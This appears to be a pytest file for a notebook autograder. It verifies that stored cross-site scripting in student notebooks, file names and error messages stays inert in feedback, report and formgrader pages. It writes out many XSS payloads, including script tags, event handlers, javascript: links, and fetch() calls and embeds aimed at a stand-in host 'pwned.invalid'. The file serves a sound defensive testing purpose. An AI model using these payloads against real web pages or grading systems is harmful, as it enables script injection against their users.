"""Stored cross-site scripting, end to end: a student whose markdown and outputs carry
scripts, event handlers, JavaScript outputs, SVG handlers, widget state and remote loads
is graded in a ``grade`` run next to a correct bystander, with students whose file names
and exception messages (which reach the grader's notes) are markup. Nothing of theirs
may run, or load anything, in the feedback pages, the report, or the page nbgrader's
formgrader makes of an autograded notebook (all opened in Chromium), and the harmless
text must still show. The runs use a temporary copy of tests/fixtures/course/.

The browser tests skip when Chromium or Playwright is missing (see test_browser.py);
the check of the autograded notebook itself needs no browser.
"""
import base64
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))
import grading_kit as kit  # noqa: E402
from make_course import CORRECT, TESTS  # noqa: E402
from test_browser import CHROMIUM, CHROMIUM_ARGS, require_browser  # noqa: E402

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the executor needs Linux (fork, rlimits)")

EVIL = "pwned.invalid"  # every attack that loads something loads it from here
FRAME = "data:text/html;base64,"
HARMLESS = ["HARMLESS-MARKDOWN-TEXT", "HARMLESS-HTML-TEXT", "HARMLESS-MARKDOWN-OUTPUT", "HARMLESS-NOTE"]
ATTACK_MARKDOWN = f"""HARMLESS-MARKDOWN-TEXT: the tied weight is one Parameter object.

<script>window.pwned = "markdown script"; document.title = "pwned"; fetch("http://{EVIL}/md-script")</script>
<img src="x" onerror="window.pwned = 'markdown onerror'; fetch('http://{EVIL}/md-onerror')">
<svg onload="window.pwned = 'inline svg'"><rect width="5" height="5"/></svg>
<details open ontoggle="window.pwned = 'ontoggle'">x</details>
<iframe src="http://{EVIL}/md-iframe"></iframe><object data="http://{EVIL}/md-object"></object>
<embed src="http://{EVIL}/md-embed"><style>body {{ background: url("http://{EVIL}/md-style") }}</style>
<a href="javascript:window.pwned = 'markdown html link'">html link</a>

[markdown link](javascript:window.pwned='markdown link') ![remote image](http://{EVIL}/md-image.png)

```mermaid
<img src="x" onerror="window.pwned = 'mermaid'">
```
"""
# Prepended to the student's (correct) answer to question 1: displays that try to run.
ATTACK_OUTPUTS = f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML('<b>HARMLESS-HTML-TEXT</b><script>window.pwned = "html script"</script>'
             '<img src="x" onerror="window.pwned = \\'html onerror\\'">'))
display({{"text/html": '<script>window.pwned = "isolated html"</script>'}}, raw=True,
        metadata={{"text/html": {{"isolated": True}}}})  # shown in a frame of its own
display(Javascript('window.pwned = "javascript output"; document.title = "pwned"'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" '
            'onload="window.pwned = \\'svg onload\\'"><rect width="20" height="20"/></svg>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
            '<rect width="20" height="20" fill="#4477aa"/></svg>'))
display(Markdown('HARMLESS-MARKDOWN-OUTPUT <img src="x" onerror="window.pwned = \\'markdown output\\'">'))
display({{"text/html": ["<scr", "ipt>window.pwned = 'split html'</scr", "ipt>"], "text/plain": "split"}}, raw=True)
display({{"image/png": "bm90IGEgcG5n", "text/plain": "a broken image"}}, raw=True,
        metadata={{"image/png": {{"width": "1 onerror=window.pwned=1"}}}})  # written unquoted
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "m1", "version_major": 2, "version_minor": 0}},
         "text/plain": "a widget"}}, raw=True)
"""
WIDGET_STATE = {"application/vnd.jupyter.widget-state+json": {
    "version_major": 2, "version_minor": 0,
    "state": {"m1": {"model_name": "EvilModel", "model_module": f"http://{EVIL}/widget.js",
                     "model_module_version": "1.0.0", "state": {}}}}}


# Text of the student's that reaches the grader's notes: a file name, an exception's message.
MARKUP_NAME = "<img src=x onerror=window.pwned=1>.ipynb"
MARKUP_ERROR = "<img src=x onerror=window.pwned=1>"


def attacker():
    nb = kit.submission({"make_layer": ATTACK_OUTPUTS + CORRECT["make_layer"]}, explanation=ATTACK_MARKDOWN)
    note = nbformat.v4.new_markdown_cell(f'HARMLESS-NOTE <img src="http://{EVIL}/note.png" onerror="window.pwned = 1">')
    nb.cells.insert(kit.index(nb, "explain"), note)
    nb.metadata["widgets"] = WIDGET_STATE
    return nb


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("xss")
    subs = base / "submissions"
    kit.write(attacker(), subs / "attacker.ipynb")
    kit.write(kit.submission(), subs / "by_full.ipynb")
    # notes on a graded submission: a second notebook's name, an exception's message
    kit.write(kit.submission({"tie": f"raise ValueError({MARKUP_ERROR!r})"}), subs / "named" / "demo.ipynb")
    kit.write(kit.submission(), subs / "named" / MARKUP_NAME)
    # notes on a page for what could not be graded
    (subs / "unreadable").mkdir()
    for name in (MARKUP_NAME, "demo.ipynb"):
        (subs / "unreadable" / name).write_bytes(b"%PDF-1.4")
    return kit.run(subs, base / "out", kit.course_copy(tmp_path_factory), timeout=5.0)


def formgrader_page(graded, student, folder):
    """The page nbgrader's formgrader serves for the student's autograded notebook: its
    exporter, with its template and the resources its handler passes."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "demo", "notebook_id": "demo", "submission_id": "1", "index": 0, "total": 2,
                 "base_url": "", "student": student, "last_name": None, "first_name": None,
                 "notebook_path": "demo.ipynb"}
    page, _ = HTMLExporter(config=config).from_filename(str(graded.autograded(student)), resources=resources)
    path = folder / f"formgrader-{student}.html"
    path.write_text(page)
    return path


class ActiveParts(HTMLParser):
    """What of a page can run or load: scripts, styles, attributes (handlers, URLs)."""

    def __init__(self, page):
        super().__init__()
        self.scripts, self.attributes, self.tags, self._in = [], [], [], None
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)
        self._in = tag if tag in ("script", "style") else None

    def handle_data(self, data):
        if self._in:
            self.scripts.append(data)


def assert_inert(page):
    """Nothing of the student's can run or load (every attack names "pwned" or EVIL): no
    handler, script, style or URL of theirs, no plug-in; and so in the frame nbconvert
    makes of "isolated" HTML."""
    parts = ActiveParts(page)
    assert not [s for s in parts.scripts if "pwned" in s or EVIL in s]
    assert not {"object", "embed"} & set(parts.tags)
    frames = [value for tag, name, value in parts.attributes if tag == "iframe" and name == "src"]
    for frame in frames:
        assert frame.startswith(FRAME)
        assert_inert(base64.b64decode(frame[len(FRAME):]).decode())
    values = [value for tag, name, value in parts.attributes if not (tag == "iframe" and name == "src")]
    assert not [v for v in values if "pwned" in v or EVIL in v or "javascript:" in v.lower()]


def test_the_attackers_are_graded_like_anyone(graded):
    assert kit.points(graded.rows["attacker"]) == kit.auto_points_if(set(TESTS.values()))
    assert kit.points(graded.rows["by_full"]) == kit.auto_points_if(set(TESTS.values()))
    assert kit.points(graded.rows["named"]) == kit.auto_points_if(set(TESTS.values()) - {"test_tie"})
    assert MARKUP_NAME in graded.notes("named") and MARKUP_ERROR in graded.notes("named")
    assert graded.rows["unreadable"].status.startswith("not a notebook") and MARKUP_NAME in graded.notes("unreadable")


def test_the_grades_report_and_notes_hold_nothing_that_runs(graded):
    for page in [graded.out / "report.html", *map(graded.feedback_path, ("named", "unreadable"))]:
        assert_inert(page.read_text())


def test_the_autograded_notebook_holds_nothing_that_runs(graded, tmp_path):
    nb = graded.autograded_notebook("attacker")
    assert "widgets" not in nb.metadata
    types = {mime for cell in nb.cells for output in cell.get("outputs", []) for mime in output.get("data", {})}
    assert types <= {"text/plain", "text/html", "text/markdown", "image/svg+xml", "image/png"}, types
    assert_inert(formgrader_page(graded, "attacker", tmp_path).read_text())
    assert_inert(graded.feedback_path("attacker").read_text())


# --- in a browser ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def browser():
    sync_playwright = require_browser()
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            yield chromium
        finally:
            chromium.close()


def visit(browser, path):
    """Open a page (from disk; nothing is fetched from the network) and report what its
    scripts could have done: window.pwned, the title, requests, and what shows."""
    page = browser.new_page()
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    page.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort())
    try:
        page.goto(path.as_uri())
        page.wait_for_timeout(1500)  # for error and load handlers, and the scripts' timers
        seen = page.evaluate("""() => ({
            pwned: window.pwned === undefined ? null : String(window.pwned),
            title: document.title,
            text: document.body.innerText,
            svg_images: [...document.images].filter(i => i.src.startsWith('data:image/svg+xml')
                                                        && i.naturalWidth === 20).length})""")
    finally:
        page.close()
    return seen, [url for url in requested if EVIL in url]


def test_the_attacks_run_in_a_page_made_without_sanitizing(browser, tmp_path):
    """The probe is no dud: the student's markdown, rendered as nbconvert renders it, runs."""
    from nbconvert.exporters import HTMLExporter

    page, _ = HTMLExporter().from_notebook_node(attacker())
    (tmp_path / "raw.html").write_text(page)
    seen, requested = visit(browser, tmp_path / "raw.html")
    assert seen["pwned"] is not None and requested


def page(graded, which, folder):
    kind, _, student = which.partition(":")
    if kind == "formgrader":
        return formgrader_page(graded, student, folder)
    return graded.out / "report.html" if kind == "report" else graded.feedback_path(student)


@pytest.mark.parametrize("which", ["feedback:attacker", "formgrader:attacker", "feedback:named",
                                   "feedback:unreadable", "report"])
def test_no_student_script_runs(graded, browser, tmp_path, which):
    seen, requested = visit(browser, page(graded, which, tmp_path))
    assert seen["pwned"] is None and "pwned" not in seen["title"] and requested == []


@pytest.mark.parametrize("which", ["feedback:attacker", "formgrader:attacker"])
def test_the_harmless_content_still_shows(graded, browser, tmp_path, which):
    seen, _ = visit(browser, page(graded, which, tmp_path))
    for text in HARMLESS:
        assert text in seen["text"], text
    assert seen["svg_images"] == 1  # the harmless SVG, drawn
